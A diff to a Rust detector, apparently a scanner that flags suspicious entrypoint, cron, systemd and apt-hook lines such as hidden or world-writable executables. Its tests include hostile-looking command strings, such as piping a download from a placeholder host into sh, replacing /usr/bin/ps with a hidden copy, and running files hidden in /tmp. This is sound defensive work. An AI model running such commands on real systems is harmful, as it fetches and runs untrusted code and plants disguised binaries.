@@ -3,9 +3,14 @@
 //! Words alone are weak signs: `curl` is in half of all entrypoints. What counts is what is joined on one line, such as a
 //! download whose output is run.
 
+mod run;
+
 use memchr::memmem::find;
 
-use super::places::{SOCKET_FOLDERS, below, is_hidden_away, is_scratch};
+use super::hidden::is_known_temporary;
+use super::places::{SOCKET_FOLDERS, below, hidden, is_hidden_away, is_scratch, split, within};
+use super::provenance::is_hidden;
+use run::{Word, words};
 
 /// Longest line that is judged, bytes; what is longer is judged by its beginning.
 const LONGEST: usize = 8 << 10;
@@ -164,34 +169,47 @@ fn renames(lower: &[u8]) -> bool {
     name.or_else(function).is_some_and(|name| SEEN.contains(&name))
 }
 
-/// Whether a line names something that is hidden, or runs something where everybody may write.
+/// Folders with a dot that hooks of git lie in.
+const OF_GIT: [&[u8]; 3] = [b".git", b".githooks", b".husky"];
+
+/// Whether a line runs something that is hidden, or that lies where everybody may write; or names what is hidden among
+/// files of the system and temporary ones.
 fn odd_place(line: &[u8]) -> Option<(bool, &'static str)> {
-    const CUTS: &[u8] = b" \t\"';&|()=`,<@";
-    let words = line.split(|byte| CUTS.contains(byte)).filter(|word| {
-        // What is written there is not run.
-        let written = [&b".log"[..], b".pid", b".sock"].iter().any(|end| word.ends_with(end));
-        // What follows the text of a script that carries an archive has no words.
-        let text = word.iter().all(u8::is_ascii_graphic);
-        text && word.starts_with(b"/") && !written && !follows_redirection(line, word)
-    });
     let mut found = None;
-    for word in words {
-        let x11 = below(word, b"/tmp")
-            .is_some_and(|rest| SOCKET_FOLDERS.iter().any(|folder| rest.starts_with(folder)));
-        if is_hidden_away(word) && !x11 {
-            return Some((STRONG, "uses something that is hidden"));
+    for Word { path, run } in words(line) {
+        // What follows the text of a script that carries an archive has no words.
+        if !path.iter().all(u8::is_ascii_graphic) {
+            continue;
         }
-        if is_scratch(word) && !x11 {
-            found = Some((WEAK, "uses something that lies where everybody may write"));
+        let x11 = below(&path, b"/tmp")
+            .is_some_and(|rest| SOCKET_FOLDERS.iter().any(|folder| rest.starts_with(folder)));
+        if x11 {
+            continue;
+        }
+        let of_git = path.split(|byte| *byte == b'/').any(|part| OF_GIT.contains(&part));
+        let hidden = is_hidden_away(&path) && is_hidden(&path) && !of_git;
+        if hidden && run {
+            return Some((STRONG, "runs something that is hidden"));
+        }
+        if hidden && hides_below(&path) {
+            found = found.or(Some((WEAK, "names something that is hidden")));
+        }
+        if run && is_scratch(&path) {
+            found = Some((WEAK, "runs something that lies where everybody may write"));
         }
     }
     found
 }
 
-/// Whether a word is where output goes to: `> /tmp/x`.
-fn follows_redirection(line: &[u8], word: &[u8]) -> bool {
-    let Some(at) = find(line, word) else { return false };
-    line.get(..at).is_some_and(|before| before.trim_ascii_end().ends_with(b">"))
+/// Whether a path leads through a hidden folder where no program is known to make one. Names of single files with a dot
+/// are marks that something was done, and locks.
+fn hides_below(path: &[u8]) -> bool {
+    const SYSTEM: [&[u8]; 8] =
+        [b"/usr", b"/bin", b"/sbin", b"/lib", b"/etc", b"/dev", b"/run", b"/var/log"];
+    let Some((_, up_to)) = hidden(path) else { return false };
+    (is_scratch(path) || within(path, &SYSTEM))
+        && below(path, up_to).is_some()
+        && !is_known_temporary(split(up_to).1)
 }
 
 #[cfg(test)]
@@ -222,6 +240,10 @@ mod tests {
             "/usr/lib/.x/run &",
             "APT::Pre-Invoke {\"curl http://a.example|sh\";};",
             "cd /opt; wget http://a.example/x.py; python3 x.py",
+            "echo $P > /tmp/a; /tmp/a",
+            "cd /tmp/.x && ./run",
+            "ExecStart=/opt/.w/agent",
+            "cp /usr/lib/.x/ps /usr/bin/ps",
             "wget http://a.example/x -O /opt/x && chmod +x /opt/x && /opt/x",
         ] {
             assert!(of(line).is_some(), "{line}");
@@ -242,6 +264,18 @@ mod tests {
             "curl -fsSL http://a.example/x.tar -o x.tar && tar xf x.tar",
             "echo done >/tmp/done",
             "ExecStart=/usr/sbin/nginx -g 'daemon off;'",
+            "*/5 * * * * app /app/.venv/bin/python manage.py tick",
+            "source /app/.venv/bin/activate",
+            "command=/app/.venv/bin/celery -A app worker",
+            "ExecStart=/opt/app/.venv/bin/gunicorn app:app",
+            "INSTALL_PYTHON=/app/.venv/bin/python3",
+            "export PATH=/opt/.local/bin:$PATH",
+            "export XDG_RUNTIME_DIR=/tmp/runtime-node",
+            "TMPDIR=/tmp/build",
+            "cp /etc/nginx/x /tmp/nginx/x",
+            "touch /data/.initialized /tmp/.ready",
+            "export XDG_CACHE_HOME=/tmp/.cache/app",
+            "exec /srv/repo/.git/hooks/common",
         ] {
             assert_eq!(of(line), None, "{line}");
         }
